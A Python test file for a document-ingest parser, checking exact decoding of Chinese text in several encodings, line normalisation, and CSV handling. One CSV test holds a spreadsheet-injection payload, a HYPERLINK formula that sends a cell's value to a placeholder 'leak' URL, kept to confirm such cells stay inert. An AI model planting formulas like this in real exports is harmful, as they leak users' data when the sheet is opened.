"""Plain text and CSV decode exactly (UTF-8, UTF-16, GBK) and keep lines; CSV cells stay inert."""

from __future__ import annotations

import pytest

import ingest
from tests.ingest.conftest import dev_file, load_truth


@pytest.mark.parametrize("name", ["bad/会议备忘_GBK编码.txt", "bad/导出记录_UTF16.txt"])
def test_encodings_decode_exactly(name: str) -> None:
    """GBK without BOM and UTF-16 with BOM decode to exactly the truth text."""
    truth = next(t for t in load_truth() if t["file"] == name)
    assert ingest.parse_file(dev_file(name)).text == truth["text"].strip("\n")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gb18030", "gbk", "utf-16-be"])
def test_round_trip_encodings(encoding: str) -> None:
    """Chinese text written in each common encoding reads back unchanged."""
    text = "会议纪要：明远科技\n金额 ￥120,000.00 已确认"
    assert ingest.parse_bytes(text.encode(encoding), "n.txt").text == text


def test_csv_cells_are_tabbed_and_inert() -> None:
    """CSV rows become TAB-joined lines; formula-looking cells are kept as text."""
    doc = ingest.parse_file(dev_file("bad/客户导出_csv注入.csv"))
    assert doc.format == "csv"
    assert '示例客户甲\t测试员\t=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"点击查看详情")\t100' in doc.text


def test_crlf_and_trailing_spaces_are_normalised() -> None:
    """CRLF becomes LF and trailing spaces go; inner spacing stays."""
    assert (
        ingest.parse_bytes("甲方：  明远 \r\n乙方：云帆\t\r\n".encode(), "a.txt").text
        == "甲方：  明远\n乙方：云帆"
    )
